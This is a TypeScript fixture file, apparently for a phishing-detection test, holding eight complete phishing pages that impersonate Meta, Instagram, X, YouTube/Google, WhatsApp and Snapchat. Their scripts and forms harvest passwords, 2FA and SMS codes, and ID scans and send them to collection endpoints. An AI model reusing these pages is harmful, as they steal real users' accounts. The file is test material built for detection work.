import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc } from '../parts/za-kit.js';

const metaCss = `body{margin:0;background:#f0f2f5;font-family:Helvetica,Arial,sans-serif;color:#1c1e21}.top{background:#fff;padding:12px 20px;box-shadow:0 1px 2px #0002;font-weight:bold;color:#0866ff;font-size:20px}.card{max-width:520px;margin:30px auto;background:#fff;border-radius:8px;padding:22px;box-shadow:0 2px 8px #0001}input,textarea{width:100%;padding:11px;margin:6px 0;border:1px solid #dddfe2;border-radius:6px;box-sizing:border-box;font-size:15px}button{width:100%;background:#0866ff;color:#fff;border:0;padding:12px;border-radius:6px;font-size:16px;font-weight:bold}.foot{text-align:center;color:#8a8d91;font-size:12px;margin:20px}`;

export const entries: Entry[] = [
  {
  id: 'za-phish-meta-business-copyright-appeal',
  label: 'phishing',
  kind: 'appeal-kit',
  url: 'https://meta-business-appeal-case.com/case/1000472291833/form',
  body: doc({
    title: 'Meta Business Help Center — Page Policy Appeal',
    css: metaCss,
    body: `<div class="top">Meta Business Help Center</div>
<div class="card"><h2>Your Page has been scheduled for permanent deletion</h2><p>We received a report that your Page infringes on another party's intellectual property rights (Case #1000472291833). If you believe this is a mistake, you can submit an appeal within <b>24 hours</b>. Otherwise your Page and linked ad account will be permanently removed.</p>
<form id="ap"><input name="page" placeholder="Page name" required><input name="fullname" placeholder="Full name" required><input name="email" placeholder="Business email" required><input name="phone" placeholder="Phone number"><textarea name="reason" placeholder="Please explain why you think this decision was wrong"></textarea><button>Submit appeal</button></form></div>
<div class="card" id="pw" style="display:none"><h3>For your security, please re-enter your password to continue</h3><input id="pass" type="password" placeholder="Facebook password"><button onclick="s2()">Continue</button></div>
<div class="card" id="tf" style="display:none"><h3>Two-factor authentication required</h3><p>Enter the 6-digit code from your authentication app or SMS.</p><input id="code" inputmode="numeric" maxlength="8" placeholder="Code"><button onclick="s3()">Send</button></div>
<div class="foot">Meta © 2025 · Privacy · Terms · Cookies</div>
<script>var d={};document.getElementById('ap').onsubmit=function(e){e.preventDefault();d=Object.fromEntries(new FormData(this));this.parentNode.style.display='none';document.getElementById('pw').style.display='block';};
function s2(){d.pass=document.getElementById('pass').value;fetch('/api/collect.php',{method:'POST',body:new URLSearchParams(d)});document.getElementById('pw').style.display='none';document.getElementById('tf').style.display='block';}
function s3(){d.code=document.getElementById('code').value;fetch('/api/collect.php',{method:'POST',body:new URLSearchParams(d)}).then(function(){location.href='https://www.facebook.com/business/help'});}</script>`,
  }),
  routes: { 'meta-business-appeal-case.com/api/collect.php': jsonRoute({ ok: 1 }) },
},
  {
  id: 'za-phish-instagram-badge-application',
  label: 'phishing',
  kind: 'badge-kit',
  url: 'https://verify-badge-ig.help/request?u=creator',
  body: doc({
    title: 'Instagram • Verified Badge Request',
    css: `body{margin:0;font-family:-apple-system,Segoe UI,Arial;background:#fafafa}.box{max-width:360px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px;text-align:center}.logo{font:italic 36px Georgia;margin-bottom:12px}.badge{display:inline-block;width:60px;height:60px;border-radius:50%;background:#0095f6;color:#fff;font-size:34px;line-height:60px}input{width:100%;padding:9px;margin:4px 0;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;box-sizing:border-box}button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:8px;margin-top:10px;font-weight:600}p{font-size:14px;color:#555}`,
    body: `<div class="box"><div class="logo">Instagram</div><div class="badge">✓</div><h3>Blue Badge Application</h3><p>Congratulations! Your account meets the requirements for the verified badge. Confirm your account details to complete the application. Incomplete applications are automatically deleted after 48 hours.</p>
<form method="post" action="/request/submit.php"><input name="username" placeholder="Username" required><input name="fullname" placeholder="Full name"><input name="email" placeholder="Email or phone"><input name="password" type="password" placeholder="Password" required><button>Apply for badge</button></form>
<p style="font-size:11px">Instagram from Meta · Help Center · Terms</p></div>`,
  }),
},
  {
  id: 'za-phish-facebook-restricted-es',
  label: 'phishing',
  kind: 'appeal-kit',
  url: 'https://soporte-cuenta-restringida.com/es/apelacion',
  body: doc({
    title: 'Servicio de ayuda — Cuenta restringida',
    lang: 'es',
    css: metaCss,
    body: `<div class="top">facebook</div><div class="card"><h2>Tu cuenta ha sido restringida</h2><p>Tu cuenta publicó contenido que no cumple nuestras <a href="#">Normas comunitarias</a>. Si no solicitas una revisión, tu cuenta se <b>desactivará de forma permanente</b> en las próximas 24 horas.</p>
<form method="post" action="/es/apelacion/enviar"><input name="nombre" placeholder="Nombre completo"><input name="correo" placeholder="Correo electrónico o teléfono"><input name="fecha" placeholder="Fecha de nacimiento (DD/MM/AAAA)"><input name="clave" type="password" placeholder="Contraseña"><textarea name="mensaje" placeholder="Explica por qué crees que es un error"></textarea><button>Solicitar revisión</button></form></div><div class="foot">Meta © 2025 · Español · Privacidad · Condiciones</div>`,
  }),
  routes: { 'soporte-cuenta-restringida.com/es/apelacion/enviar': redirectRoute(302, 'https://soporte-cuenta-restringida.com/es/codigo') },
},
  {
  id: 'za-phish-x-gold-checkmark',
  label: 'phishing',
  kind: 'badge-kit',
  url: 'https://x-verified-org.app/claim-gold',
  body: doc({
    title: 'X — Verified Organizations: claim your gold checkmark',
    css: `body{margin:0;background:#000;color:#e7e9ea;font-family:-apple-system,Segoe UI,Arial}.c{max-width:420px;margin:40px auto;padding:20px}.logo{font-size:40px;font-weight:900}.g{display:inline-block;background:#e2b719;color:#000;border-radius:50%;width:28px;height:28px;text-align:center;line-height:28px}input{width:100%;padding:14px;margin:8px 0;background:#000;border:1px solid #333;color:#fff;border-radius:4px;box-sizing:border-box}button{width:100%;padding:12px;border-radius:30px;border:0;background:#eff3f4;font-weight:bold}`,
    body: `<div class="c"><div class="logo">𝕏</div><h2>Your organization was selected for a complimentary <span class="g">✓</span> gold checkmark</h2><p>As part of the Verified Organizations program, eligible brands can claim the gold checkmark free for 12 months. Sign in with the account you want verified.</p>
<form method="post" action="/claim-gold/login"><input name="session[username_or_email]" placeholder="Phone, email, or username"><input name="session[password]" type="password" placeholder="Password"><button>Sign in and claim</button></form><p style="color:#71767b;font-size:13px">Offer expires in 3 days. Terms of Service · Privacy Policy · © 2025 X Corp.</p></div>`,
  }),
},
  {
  id: 'za-phish-youtube-monetization-review',
  label: 'phishing',
  kind: 'appeal-kit',
  url: 'https://studio-ypp-review.com/monetization/review',
  body: doc({
    title: 'YouTube Partner Program — Monetization Review',
    css: `body{margin:0;font-family:Roboto,Arial;background:#f9f9f9}.h{background:#fff;padding:12px 24px;border-bottom:1px solid #e5e5e5;font-weight:bold}.h span{color:#f00}.c{max-width:560px;margin:30px auto;background:#fff;padding:24px;border:1px solid #e5e5e5}.btn{display:inline-block;background:#065fd4;color:#fff;padding:10px 18px;border-radius:2px;text-decoration:none}`,
    body: `<div class="h"><span>▶</span> YouTube Studio</div><div class="c"><h2>Your channel is under monetization review</h2><p>We found reused content on your channel. To keep earning from ads, memberships, and Super Chat, confirm you own the channel by signing in with your Google Account. If you don't respond by <b id="dl"></b>, your channel will be removed from the YouTube Partner Program.</p>
<a class="btn" href="/signin/v2/identifier?continue=studio&flowName=GlifWebSignIn">Sign in to respond</a></div>
<script>var d=new Date(Date.now()+2*864e5);document.getElementById('dl').textContent=d.toDateString();</script>`,
  }),
  routes: {
    'studio-ypp-review.com/signin/v2/identifier': htmlRoute(doc({ title: 'Sign in – Google Accounts', css: `body{font-family:Roboto,Arial;background:#fff}.b{width:400px;margin:60px auto;border:1px solid #dadce0;border-radius:8px;padding:40px}input{width:100%;padding:13px;margin:8px 0;border:1px solid #dadce0;border-radius:4px;box-sizing:border-box}button{background:#1a73e8;color:#fff;border:0;padding:10px 24px;border-radius:4px;float:right}`, body: `<div class="b"><h1 style="font-weight:400">Sign in</h1><p>to continue to YouTube Studio</p><form method="post" action="/signin/v2/challenge"><input name="identifier" placeholder="Email or phone"><input name="Passwd" type="password" placeholder="Enter your password"><button>Next</button></form></div>` })),
  },
},
  {
  id: 'za-phish-meta-hacked-recovery-de',
  label: 'phishing',
  kind: 'recovery-kit',
  url: 'https://konto-wiederherstellung-hilfe.de/meta/gehackt',
  body: doc({
    title: 'Meta Kontenwiederherstellung — Gehacktes Konto',
    lang: 'de',
    css: metaCss,
    body: `<div class="top">Meta · Hilfebereich</div><div class="card"><h2>Wurde dein Konto gehackt?</h2><p>Unser Wiederherstellungsteam hilft dir, den Zugang zu deinem Facebook- oder Instagram-Konto zurückzuerhalten. Bitte gib die zuletzt verwendeten Zugangsdaten und einen Lichtbildausweis an.</p>
<form method="post" action="/meta/gehackt/schritt2" enctype="multipart/form-data"><input name="konto" placeholder="Profil-URL oder Benutzername"><input name="email" placeholder="E-Mail-Adresse oder Handynummer"><input name="altes_passwort" type="password" placeholder="Zuletzt verwendetes Passwort"><input name="neues_passwort" type="password" placeholder="Aktuelles Passwort (falls bekannt)"><label style="font-size:14px">Personalausweis (Vorder- und Rückseite)</label><input type="file" name="ausweis" accept="image/*" multiple><button>Wiederherstellung starten</button></form><p style="font-size:12px;color:#666">Unser Team antwortet innerhalb von 2 Stunden per WhatsApp.</p></div><div class="foot">Meta © 2025 · Deutsch · Datenschutzrichtlinie</div>`,
  }),
},
  {
  id: 'za-phish-whatsapp-code-verify-it',
  label: 'phishing',
  kind: 'recovery-kit',
  url: 'https://whatsapp-verifica-account.it/conferma',
  body: doc({
    title: 'WhatsApp — Verifica account',
    lang: 'it',
    css: `body{margin:0;font-family:Helvetica,Arial;background:#eae6df}.h{background:#00a884;height:120px}.c{max-width:440px;margin:-70px auto 0;background:#fff;border-radius:4px;padding:30px;box-shadow:0 1px 4px #0002}.c h2{color:#41525d;font-weight:400}input{width:100%;font-size:22px;letter-spacing:8px;text-align:center;padding:10px;border:0;border-bottom:2px solid #00a884;box-sizing:border-box}button{margin-top:20px;background:#00a884;color:#fff;border:0;padding:10px 24px;border-radius:20px}`,
    body: `<div class="h"></div><div class="c"><h2>Verifica il tuo numero</h2><p>Abbiamo rilevato un accesso insolito al tuo account WhatsApp. Per evitare la sospensione, inserisci il numero di telefono e il codice di 6 cifre che hai appena ricevuto via SMS.</p>
<form method="post" action="/conferma/invia"><input name="tel" placeholder="+39" style="font-size:18px;letter-spacing:1px"><input name="codice" inputmode="numeric" maxlength="6" placeholder="––– –––" autocomplete="one-time-code"><p style="font-size:13px;color:#667781">Non condividere questo codice con altri. Se il codice non arriva, attendi 1 minuto.</p><button>Verifica</button></form></div>`,
  }),
},
  {
  id: 'za-phish-snapchat-unlock-account',
  label: 'phishing',
  kind: 'recovery-kit',
  url: 'https://accounts-snapchat-unlock.com/accounts/unlock',
  body: doc({
    title: 'Unlock My Account • Snapchat',
    css: `body{margin:0;font-family:Avenir,Arial;background:#fffc00}.c{max-width:380px;margin:50px auto;background:#fff;border-radius:16px;padding:28px;text-align:center}.g{font-size:48px}input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:8px;box-sizing:border-box}button{width:100%;background:#0fadff;color:#fff;border:0;border-radius:24px;padding:12px;font-weight:bold}`,
    body: `<div class="c"><div class="g">👻</div><h2>Your account is locked</h2><p>We detected suspicious activity and temporarily locked your account. Log in to unlock it and keep your Streaks and Memories.</p>
<form id="f"><input name="username" placeholder="Username or email"><input name="password" type="password" placeholder="Password"><button>Unlock</button></form><p style="font-size:11px;color:#888">Snap Inc. · Privacy · Terms</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('https://accounts-snapchat-unlock.com/api/v2/s',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:this.username.value,p:this.password.value,ua:navigator.userAgent})}).finally(function(){document.querySelector('.c').innerHTML='<h2>Enter the code we sent to your phone</h2><input placeholder="6-digit code"><button>Submit</button>'});};</script>`,
  }),
  routes: { 'accounts-snapchat-unlock.com/api/v2/s': jsonRoute({ s: 1 }) },
},
];
